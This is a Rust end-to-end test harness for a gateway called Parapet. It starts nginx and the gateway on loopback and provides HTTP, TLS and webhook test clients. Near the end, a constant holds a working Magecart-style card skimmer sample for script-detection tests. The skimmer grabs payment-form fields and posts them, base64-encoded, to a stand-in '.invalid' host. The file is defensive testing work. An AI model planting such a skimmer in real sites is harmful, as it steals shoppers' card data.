//! Starts the real peers of a test on loopback and cleans up after it.
//!
//! [`Env`] is one test's world: a temporary directory, a real nginx, the real
//! `parapet serve` on free ports with a config written from [`Config`]. Children
//! are killed when the `Env` drops, so a failing test leaves nothing running.
//! Clients: [`send`] (HTTP/1.1 with hyper, plain or over TLS), [`raw`] (bytes over
//! TCP, for what a well-behaved client would never send), [`tls_connect`].

use std::collections::HashMap;
use std::fmt::Write as _;
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::header::HeaderMap;
use hyper::{Request, StatusCode};
use hyper_util::rt::TokioIo;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::{CryptoProvider, SupportedKxGroup};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme, SupportedProtocolVersion};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

/// Upper bound for any single network exchange in a test: generous, so that a
/// loaded CI machine does not fail a correct gateway, and still bounded.
pub const IO_TIMEOUT: Duration = Duration::from_secs(15);
/// How long Parapet may take to answer `/healthz` after it was started.
const STARTUP_TIMEOUT: Duration = Duration::from_secs(10);

const INSTALL_HINT: &str = "run ./scripts/test.sh, which installs the test peers";

/// A free TCP port on 127.0.0.1 (the listener is closed again at once).
pub fn free_port() -> u16 {
    free_ports::<1>()[0]
}

/// `N` distinct free loopback ports: all are held open until every one is chosen, so one
/// config never gets the same port twice (ports picked one at a time can repeat).
pub fn free_ports<const N: usize>() -> [u16; N] {
    let held: [TcpListener; N] = std::array::from_fn(|_| {
        TcpListener::bind("127.0.0.1:0").expect("bind an ephemeral loopback port")
    });
    held.map(|l| l.local_addr().expect("a bound listener's address").port())
}

pub fn local(port: u16) -> SocketAddr {
    SocketAddr::from(([127, 0, 0, 1], port))
}

/// The repository root (tests read the example config and the browser script).
pub fn repo_root() -> PathBuf {
    std::env::var_os("CARGO_MANIFEST_DIR")
        .map_or_else(
            || std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")),
            std::path::PathBuf::from,
        )
        .join("../..")
}

fn find_program(name: &str, fallbacks: &[&str]) -> Option<PathBuf> {
    let on_path = std::env::var_os("PATH")
        .map(|p| {
            std::env::split_paths(&p)
                .map(|d| d.join(name))
                .collect::<Vec<_>>()
        })
        .unwrap_or_default();
    on_path
        .into_iter()
        .chain(fallbacks.iter().map(PathBuf::from))
        .find(|p| p.is_file())
}

pub fn nginx_binary() -> PathBuf {
    find_program("nginx", &["/usr/sbin/nginx"])
        .unwrap_or_else(|| panic!("nginx not found on PATH nor at /usr/sbin/nginx: {INSTALL_HINT}"))
}

/// Polls `f` every 50 ms until it returns `Some`, for at most `limit`.
pub async fn eventually<T, F, Fut>(limit: Duration, mut f: F) -> Option<T>
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Option<T>>,
{
    let start = Instant::now();
    loop {
        if let Some(v) = f().await {
            return Some(v);
        }
        if start.elapsed() >= limit {
            return None;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

// ---------------------------------------------------------------- nginx

/// One `server { }` of the test nginx: its port and the body of the block.
pub struct NginxServer {
    pub port: u16,
    pub body: String,
}

impl NginxServer {
    /// A server whose `/` echoes, one `key=value` a line, what it received
    /// (see [`Echo`]); `/status/418` answers 418; `/big` a larger body.
    pub fn echo(port: u16, label: &str) -> Self {
        let body = format!(
            r#"
        add_header X-Upstream "{label}" always;
        location = /status/418 {{ return 418 "short and stout\n"; }}
        location = /status/404 {{ return 404 "not here\n"; }}
        location / {{
            return 200 "upstream={label}\npath=$request_uri\nmethod=$request_method\nhost=$http_host\nxff=$http_x_forwarded_for\nxfp=$http_x_forwarded_proto\nxfh=$http_x_forwarded_host\nfwd=$http_forwarded\nrid=$http_x_request_id\nconnection=$http_connection\nkeepalive=$http_keep_alive\nte=$http_te\nproxyauth=$http_proxy_authorization\nhop=$http_x_hop\nkept=$http_x_kept\nupgrade=$http_upgrade\ncl=$content_length\n";
        }}
"#
        );
        NginxServer { port, body }
    }
}

/// What an echo location of [`NginxServer::echo`] saw, by key.
pub struct Echo(pub HashMap<String, String>);

impl Echo {
    pub fn parse(body: &[u8]) -> Echo {
        let text = String::from_utf8_lossy(body);
        Echo(
            text.lines()
                .filter_map(|l| l.split_once('='))
                .map(|(k, v)| (k.to_owned(), v.to_owned()))
                .collect(),
        )
    }

    /// The value nginx saw; nginx prints an absent header as an empty string.
    pub fn get(&self, key: &str) -> &str {
        self.0
            .get(key)
            .map(String::as_str)
            .unwrap_or_else(|| panic!("echo body has no `{key}=` line: {:?}", self.0))
    }
}

/// A real nginx, run in the foreground as a single process (`master_process
/// off`) so that killing the child stops it whole.
pub struct Nginx {
    dir: PathBuf,
    conf: PathBuf,
    ports: Vec<u16>,
    child: Option<Child>,
}

impl Nginx {
    pub fn start(dir: &Path, servers: Vec<NginxServer>) -> Nginx {
        let dir = dir.join("nginx");
        std::fs::create_dir_all(dir.join("tmp")).unwrap();
        let d = dir.display();
        let mut conf = format!(
            r#"daemon off;
master_process off;
worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/error.log warn;
events {{ worker_connections 1024; }}
http {{
    log_format e2e '$request_method $request_uri $status';
    access_log {d}/access.log e2e;
    client_body_temp_path {d}/tmp/body;
    proxy_temp_path {d}/tmp/proxy;
    fastcgi_temp_path {d}/tmp/fastcgi;
    uwsgi_temp_path {d}/tmp/uwsgi;
    scgi_temp_path {d}/tmp/scgi;
    default_type text/plain;
    keepalive_requests 100000;
    keepalive_timeout 60s;
"#
        );
        for s in &servers {
            writeln!(
                conf,
                "    server {{\n        listen 127.0.0.1:{};\n{}\n    }}",
                s.port, s.body
            )
            .unwrap();
        }
        conf.push_str("}\n");
        let conf_path = dir.join("nginx.conf");
        std::fs::write(&conf_path, conf).unwrap();
        let mut nginx = Nginx {
            ports: servers.iter().map(|s| s.port).collect(),
            dir,
            conf: conf_path,
            child: None,
        };
        nginx.spawn();
        nginx
    }

    fn spawn(&mut self) {
        assert!(self.child.is_none(), "nginx is already running");
        let child = Command::new(nginx_binary())
            .arg("-p")
            .arg(&self.dir)
            .arg("-e")
            .arg(self.dir.join("error.log"))
            .arg("-c")
            .arg(&self.conf)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start nginx: {e}: {INSTALL_HINT}"));
        self.child = Some(child);
        let start = Instant::now();
        for &port in &self.ports {
            loop {
                if std::net::TcpStream::connect(local(port)).is_ok() {
                    break;
                }
                if let Some(status) = self.child.as_mut().and_then(|c| c.try_wait().unwrap()) {
                    panic!(
                        "nginx exited ({status}) before listening on {port}; error.log:\n{}",
                        self.error_log()
                    );
                }
                assert!(
                    start.elapsed() < STARTUP_TIMEOUT,
                    "nginx did not listen on {port} within {STARTUP_TIMEOUT:?}; error.log:\n{}",
                    self.error_log()
                );
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }

    /// Stops nginx; its ports refuse connections afterwards.
    pub fn stop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }

    /// Starts nginx again with the same config and ports.
    pub fn restart(&mut self) {
        self.spawn();
    }

    pub fn access_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("access.log")).unwrap_or_default()
    }

    pub fn error_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("error.log")).unwrap_or_default()
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        self.stop();
    }
}

// ---------------------------------------------------------------- config

/// One `[[upstreams]]` pool of HTTP servers.
#[derive(Clone)]
pub struct Upstream {
    pub name: String,
    pub servers: Vec<SocketAddr>,
    pub response_timeout: String,
}

impl Upstream {
    pub fn new(name: &str, servers: &[SocketAddr]) -> Upstream {
        Upstream {
            name: name.to_owned(),
            servers: servers.to_vec(),
            response_timeout: "1s".to_owned(),
        }
    }

    pub fn response_timeout(mut self, t: &str) -> Upstream {
        self.response_timeout = t.to_owned();
        self
    }
}

/// The parts of a Parapet config a test varies. Ports and `state_dir` are filled
/// in by [`Config::render`].
#[derive(Clone)]
pub struct Config {
    /// `(path prefix, upstream name)`, in the one site (`hosts = ["*"]`).
    pub routes: Vec<(String, String)>,
    pub upstreams: Vec<Upstream>,
    /// `[limits]` keys and their TOML values, e.g. `("header_read_timeout", "\"1s\"")`.
    pub limits: Vec<(String, String)>,
    /// Extra TOML appended to the `[tls]` table, e.g. `require_post_quantum = true`
    /// or `[[tls.certificates]]` entries.
    pub tls: String,
    /// Extra TOML for the one site, after its routes, e.g. `[sites.script_monitor]`.
    pub site: String,
    /// Extra TOML at the end, e.g. more `[[upstreams]]`.
    pub extra: String,
    /// Extra TOML for the `[admin]` table, e.g. `token = "..."`.
    pub admin: String,
}

impl Config {
    /// `/` to the pool `nginx` at `nginx`, short limits for tests.
    pub fn new(nginx: SocketAddr) -> Config {
        Config {
            routes: vec![("/".to_owned(), "nginx".to_owned())],
            upstreams: vec![Upstream::new("nginx", &[nginx])],
            limits: [
                ("header_read_timeout", "\"1s\""),
                ("idle_timeout", "\"10s\""),
                ("max_header_bytes", "8192"),
                ("max_body_bytes", "65536"),
                ("shutdown_timeout", "\"5s\""),
            ]
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect(),
            tls: String::new(),
            site: String::new(),
            extra: String::new(),
            admin: String::new(),
        }
    }

    pub fn route(mut self, path: &str, upstream: Upstream) -> Config {
        self.routes.push((path.to_owned(), upstream.name.clone()));
        self.upstreams.push(upstream);
        self
    }

    pub fn render(&self, ports: &Ports, state_dir: &Path) -> String {
        let mut s = String::new();
        let w = &mut s;
        writeln!(
            w,
            "[server]\nstate_dir = {:?}\n",
            state_dir.display().to_string()
        )
        .unwrap();
        writeln!(w, "[log]\nlevel = \"info\"\n").unwrap();
        writeln!(
            w,
            "[admin]\nlisten = \"127.0.0.1:{}\"\n{}\n",
            ports.admin, self.admin
        )
        .unwrap();
        writeln!(
            w,
            "[[listeners]]\nname = \"http\"\nlisten = \"127.0.0.1:{}\"\n",
            ports.http
        )
        .unwrap();
        writeln!(
            w,
            "[[listeners]]\nname = \"https\"\nlisten = \"127.0.0.1:{}\"\ntls = true\n",
            ports.https
        )
        .unwrap();
        writeln!(w, "[tls]\n{}\n", self.tls).unwrap();
        writeln!(w, "[limits]").unwrap();
        for (k, v) in &self.limits {
            writeln!(w, "{k} = {v}").unwrap();
        }
        writeln!(w, "\n[[sites]]\nname = \"t\"\nhosts = [\"*\"]").unwrap();
        for (path, upstream) in &self.routes {
            writeln!(
                w,
                "  [[sites.routes]]\n  path = {path:?}\n  upstream = {upstream:?}"
            )
            .unwrap();
        }
        writeln!(w, "{}", self.site).unwrap();
        for u in &self.upstreams {
            let servers: Vec<String> = u
                .servers
                .iter()
                .map(|a| format!("{:?}", a.to_string()))
                .collect();
            writeln!(
                w,
                "\n[[upstreams]]\nname = {:?}\nservers = [{}]\nresponse_timeout = {:?}\n[upstreams.passive_health]\nmax_fails = 1\nfail_timeout = \"1s\"",
                u.name,
                servers.join(", "),
                u.response_timeout
            )
            .unwrap();
        }
        writeln!(w, "\n{}", self.extra).unwrap();
        s
    }
}

// ---------------------------------------------------------------- parapet

pub struct Ports {
    pub admin: u16,
    pub http: u16,
    pub https: u16,
}

/// The real `parapet serve`, its output captured in files of the test directory.
pub struct Parapet {
    child: Option<Child>,
    pub ports: Ports,
    pub config_path: PathBuf,
    pub state_dir: PathBuf,
    stderr_path: PathBuf,
}

impl Parapet {
    pub fn start(dir: &Path, config: &Config) -> Parapet {
        let [admin, http, https] = free_ports();
        let ports = Ports { admin, http, https };
        let state_dir = dir.join("state");
        let config_path = dir.join("parapet.toml");
        std::fs::write(&config_path, config.render(&ports, &state_dir)).unwrap();
        let stderr_path = dir.join("parapet.stderr");
        let child = Command::new(env!("CARGO_BIN_EXE_parapet"))
            .arg("serve")
            .arg("--config")
            .arg(&config_path)
            .env_remove("RUST_LOG")
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(dir.join("parapet.stdout")).unwrap())
            .stderr(std::fs::File::create(&stderr_path).unwrap())
            .spawn()
            .expect("start the parapet binary");
        let mut p = Parapet {
            child: Some(child),
            ports,
            config_path,
            state_dir,
            stderr_path,
        };
        p.wait_healthy();
        p
    }

    fn wait_healthy(&mut self) {
        let start = Instant::now();
        loop {
            if blocking_get_status(local(self.ports.admin), "/healthz") == Some(200) {
                return;
            }
            if let Some(status) = self.child.as_mut().and_then(|c| c.try_wait().unwrap()) {
                panic!(
                    "parapet exited ({status}) before /healthz answered 200; stderr:\n{}",
                    self.stderr()
                );
            }
            assert!(
                start.elapsed() < STARTUP_TIMEOUT,
                "parapet's /healthz did not answer 200 within {STARTUP_TIMEOUT:?}; stderr:\n{}",
                self.stderr()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    pub fn stderr(&self) -> String {
        std::fs::read_to_string(&self.stderr_path).unwrap_or_default()
    }

    pub fn http(&self) -> SocketAddr {
        local(self.ports.http)
    }

    pub fn https(&self) -> SocketAddr {
        local(self.ports.https)
    }

    pub fn admin(&self) -> SocketAddr {
        local(self.ports.admin)
    }

    /// Rewrites the config file in place (same ports and state directory).
    pub fn rewrite_config(&self, config: &Config) {
        std::fs::write(
            &self.config_path,
            config.render(&self.ports, &self.state_dir),
        )
        .unwrap();
    }

    /// Edits the config file's text in place (for sections the `Config` builder keeps as
    /// text, such as `extra`).
    pub fn edit_config(&self, edit: impl FnOnce(String) -> String) {
        let text = std::fs::read_to_string(&self.config_path).unwrap();
        std::fs::write(&self.config_path, edit(text)).unwrap();
    }

    /// The process id, while it runs.
    pub fn pid(&self) -> u32 {
        self.child.as_ref().expect("parapet is running").id()
    }

    /// A line of `/proc/PID/status` in KiB, e.g. `VmRSS` or `VmHWM` (peak resident set).
    pub fn memory_kb(&self, field: &str) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap();
        status
            .lines()
            .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap_or_else(|| panic!("no {field} in /proc/PID/status"))
    }

    pub fn signal(&self, signal: nix::sys::signal::Signal) {
        let child = self.child.as_ref().expect("parapet is running");
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pids fit in i32"));
        nix::sys::signal::kill(pid, signal).expect("signal parapet");
    }

    /// Waits, bounded, for the process to exit.
    pub async fn wait_exit(&mut self, limit: Duration) -> Option<ExitStatus> {
        let child = self.child.as_mut().expect("parapet was started");
        let start = Instant::now();
        loop {
            if let Some(status) = child.try_wait().unwrap() {
                return Some(status);
            }
            if start.elapsed() >= limit {
                return None;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
    }

    pub fn is_running(&mut self) -> bool {
        matches!(self.child.as_mut().map(|c| c.try_wait()), Some(Ok(None)))
    }
}

impl Drop for Parapet {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// A GET over a plain blocking socket, for startup polling: the status, if any.
fn blocking_get_status(addr: SocketAddr, path: &str) -> Option<u16> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(500)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut buf = [0u8; 64];
    let mut n = 0;
    while n < 12 {
        match s.read(&mut buf[n..]) {
            Ok(0) | Err(_) => break,
            Ok(k) => n += k,
        }
    }
    status_of(&buf[..n])
}

// ---------------------------------------------------------------- one test's world

/// A temporary directory, nginx and Parapet; dropped in reverse order of need.
pub struct Env {
    pub parapet: Parapet,
    pub nginx: Nginx,
    _dir: tempfile::TempDir,
}

impl Env {
    /// nginx echoing on one port, Parapet routing everything to it.
    pub fn start() -> Env {
        Env::start_with(|c| c)
    }

    /// As [`Env::start`], with the config changed by `f` first.
    pub fn start_with(f: impl FnOnce(Config) -> Config) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let nginx_port = free_port();
        let nginx = Nginx::start(dir.path(), vec![NginxServer::echo(nginx_port, "nginx")]);
        let config = f(Config::new(local(nginx_port)));
        let parapet = Parapet::start(dir.path(), &config);
        Env {
            parapet,
            nginx,
            _dir: dir,
        }
    }
}

// ---------------------------------------------------------------- clients

/// A response, fully read.
#[derive(Debug)]
pub struct Resp {
    pub status: StatusCode,
    pub headers: HeaderMap,
    pub body: Bytes,
}

impl Resp {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }

    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    pub fn echo(&self) -> Echo {
        assert_eq!(
            self.status,
            StatusCode::OK,
            "expected 200 from the echo upstream: {self:?}"
        );
        Echo::parse(&self.body)
    }
}

pub fn get(path: &str) -> Request<Full<Bytes>> {
    Request::get(path)
        .header("host", "localhost")
        .body(Full::new(Bytes::new()))
        .unwrap()
}

/// Sends one HTTP/1.1 request on a new connection over `io` and reads the response.
pub async fn send_on<T>(io: T, req: Request<Full<Bytes>>) -> Result<Resp, String>
where
    T: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let exchange = async {
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(io))
            .await
            .map_err(|e| format!("handshake: {e}"))?;
        tokio::spawn(conn);
        let resp = sender
            .send_request(req)
            .await
            .map_err(|e| format!("request: {e}"))?;
        let (parts, body) = resp.into_parts();
        let body = body
            .collect()
            .await
            .map_err(|e| format!("body: {e}"))?
            .to_bytes();
        Ok(Resp {
            status: parts.status,
            headers: parts.headers,
            body,
        })
    };
    tokio::time::timeout(IO_TIMEOUT, exchange)
        .await
        .map_err(|_| format!("no response within {IO_TIMEOUT:?}"))?
}

/// One HTTP/1.1 request over plain TCP; panics with context on any failure.
pub async fn send(addr: SocketAddr, req: Request<Full<Bytes>>) -> Resp {
    let what = format!("{} {}", req.method(), req.uri());
    let tcp = TcpStream::connect(addr)
        .await
        .unwrap_or_else(|e| panic!("connect {addr}: {e}"));
    send_on(tcp, req)
        .await
        .unwrap_or_else(|e| panic!("{what} to {addr}: {e}"))
}

/// One HTTP/1.1 request over TLS (default client: post-quantum preferred).
pub async fn send_tls(addr: SocketAddr, req: Request<Full<Bytes>>) -> Resp {
    let what = format!("{} {}", req.method(), req.uri());
    let tls = tls_connect(addr, tls_config(TlsClient::default())).await;
    send_on(tls, req)
        .await
        .unwrap_or_else(|e| panic!("{what} to {addr} over TLS: {e}"))
}

/// Writes `bytes` on a new connection and reads until the server closes it or
/// `limit` passes. Returns what was read and whether the server closed.
pub async fn raw(addr: SocketAddr, bytes: &[u8], limit: Duration) -> (Vec<u8>, bool) {
    let mut s = TcpStream::connect(addr).await.unwrap();
    // The server may answer and close before it read everything: not an error.
    let _ = s.write_all(bytes).await;
    read_until_close(&mut s, limit).await
}

pub async fn read_until_close(s: &mut TcpStream, limit: Duration) -> (Vec<u8>, bool) {
    let mut out = Vec::new();
    let deadline = tokio::time::Instant::now() + limit;
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Err(_) => return (out, false),
            Ok(Ok(0)) | Ok(Err(_)) => return (out, true),
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
        }
    }
}

/// The status code of an HTTP/1.x response head, if `bytes` starts with one.
pub fn status_of(bytes: &[u8]) -> Option<u16> {
    let line = bytes.split(|&b| b == b'\r').next()?;
    let line = std::str::from_utf8(line).ok()?;
    let mut parts = line.split(' ');
    if !parts.next()?.starts_with("HTTP/1.") {
        return None;
    }
    parts.next()?.parse().ok()
}

// ---------------------------------------------------------------- TLS

/// What a test TLS client offers.
pub struct TlsClient {
    pub groups: Vec<&'static dyn SupportedKxGroup>,
    pub versions: Vec<&'static SupportedProtocolVersion>,
    pub alpn: Vec<Vec<u8>>,
}

impl Default for TlsClient {
    /// A modern client: X25519MLKEM768 first, classical groups after; TLS 1.3
    /// and 1.2; HTTP/1.1 only.
    fn default() -> Self {
        use rustls::crypto::aws_lc_rs::kx_group;
        TlsClient {
            groups: vec![
                kx_group::X25519MLKEM768,
                kx_group::X25519,
                kx_group::SECP256R1,
            ],
            versions: vec![&rustls::version::TLS13, &rustls::version::TLS12],
            alpn: vec![b"http/1.1".to_vec()],
        }
    }
}

pub fn tls_config(client: TlsClient) -> Arc<ClientConfig> {
    tls_config_with_client_auth(client, None)
}

/// As [`tls_config`], with client certificates chosen by `resolver` when the server asks
/// for one (mTLS); `None` sends none.
pub fn tls_config_with_client_auth(
    client: TlsClient,
    resolver: Option<Arc<dyn rustls::client::ResolvesClientCert>>,
) -> Arc<ClientConfig> {
    let provider = Arc::new(CryptoProvider {
        kx_groups: client.groups,
        ..rustls::crypto::aws_lc_rs::default_provider()
    });
    let builder = ClientConfig::builder_with_provider(provider.clone())
        .with_protocol_versions(&client.versions)
        .expect("the aws-lc-rs provider supports TLS 1.2 and 1.3")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AcceptSelfSigned(provider)));
    let mut config = match resolver {
        Some(r) => builder.with_client_cert_resolver(r),
        None => builder.with_no_client_auth(),
    };
    config.alpn_protocols = client.alpn;
    Arc::new(config)
}

pub async fn tls_connect(addr: SocketAddr, config: Arc<ClientConfig>) -> TlsStream<TcpStream> {
    try_tls_connect(addr, config, "localhost")
        .await
        .unwrap_or_else(|e| panic!("TLS handshake with {addr}: {e}"))
}

/// A TLS handshake that may fail, with the server name (SNI) to ask for.
pub async fn try_tls_connect(
    addr: SocketAddr,
    config: Arc<ClientConfig>,
    server_name: &str,
) -> Result<TlsStream<TcpStream>, String> {
    let tcp = TcpStream::connect(addr)
        .await
        .unwrap_or_else(|e| panic!("connect {addr}: {e}"));
    let name = ServerName::try_from(server_name.to_owned()).unwrap();
    tokio::time::timeout(
        IO_TIMEOUT,
        tokio_rustls::TlsConnector::from(config).connect(name, tcp),
    )
    .await
    .unwrap_or_else(|_| panic!("TLS handshake with {addr} took more than {IO_TIMEOUT:?}"))
    .map_err(|e| e.to_string())
}

/// Accepts Parapet's self-signed certificate (any certificate), but still checks
/// that the handshake signatures are made with its key.
#[derive(Debug)]
struct AcceptSelfSigned(Arc<CryptoProvider>);

impl ServerCertVerifier for AcceptSelfSigned {
    fn verify_server_cert(
        &self,
        _end_entity: &CertificateDer<'_>,
        _intermediates: &[CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp_response: &[u8],
        _now: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls12_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

// ---------------------------------------------------------------- metrics

/// The sum of all samples of `name` in Prometheus text whose labels contain
/// every one of `labels` (`key="value"` strings); `None` if there is none.
pub fn metric_sum(text: &str, name: &str, labels: &[&str]) -> Option<f64> {
    let mut found = None;
    for line in text.lines().filter(|l| !l.starts_with('#')) {
        let Some((series, value)) = line.rsplit_once(' ') else {
            continue;
        };
        let (series_name, series_labels) = match series.split_once('{') {
            Some((n, rest)) => (n, rest),
            None => (series, ""),
        };
        if series_name != name || !labels.iter().all(|l| series_labels.contains(l)) {
            continue;
        }
        if let Ok(v) = value.trim().parse::<f64>() {
            *found.get_or_insert(0.0) += v;
        }
    }
    found
}

// ---------------------------------------------------------------- alert receivers

/// A webhook receiver on loopback: records the body and signature of every POST.
pub async fn webhook_receiver() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<(String, Bytes)>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = got.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let service =
                    hyper::service::service_fn(move |req: Request<hyper::body::Incoming>| {
                        let log = log.clone();
                        async move {
                            let sig = req
                                .headers()
                                .get("x-parapet-signature")
                                .and_then(|v| v.to_str().ok())
                                .unwrap_or_default()
                                .to_owned();
                            let body = req.into_body().collect().await.unwrap().to_bytes();
                            log.lock().unwrap().push((sig, body));
                            Ok::<_, std::convert::Infallible>(http::Response::new(Full::new(
                                Bytes::new(),
                            )))
                        }
                    });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    (port, got)
}

/// The skimmer the script-analysis tests append to the demo's checkout script, after the
/// public write-ups of Magecart kits (see `crates/scripts/testdata/README.md`): a form
/// grabber on the payment form that serialises every field, base64-encodes it and posts it
/// to a look-alike host under `.invalid`.
pub const SKIMMER: &str = r#"
(function () {
  var f = document.getElementById("payment");
  if (!f || location.pathname.indexOf("checkout") < 0) return;
  f.addEventListener("submit", function () {
    var d = {};
    for (var i = 0; i < f.elements.length; i++) {
      var el = f.elements[i];
      if (el.name) d[el.name] = el.value;
    }
    d.card = f.elements["cc-number"].value;
    fetch("https://harbor-hill-cdn.invalid/collect", {
      method: "POST",
      mode: "no-cors",
      body: btoa(JSON.stringify(d))
    });
  });
})();
"#;

/// Copies a directory tree (a static-file upstream the test then changes).
pub fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// The alerts a [`webhook_receiver`] got so far, as (kind, event).
pub fn webhook_alerts(
    received: &std::sync::Mutex<Vec<(String, Bytes)>>,
) -> Vec<(String, serde_json::Value)> {
    received
        .lock()
        .unwrap()
        .iter()
        .map(|(_, body)| {
            let v: serde_json::Value = serde_json::from_slice(body).unwrap();
            (
                v["event"]["kind"].as_str().unwrap_or_default().to_owned(),
                v["event"].clone(),
            )
        })
        .collect()
}
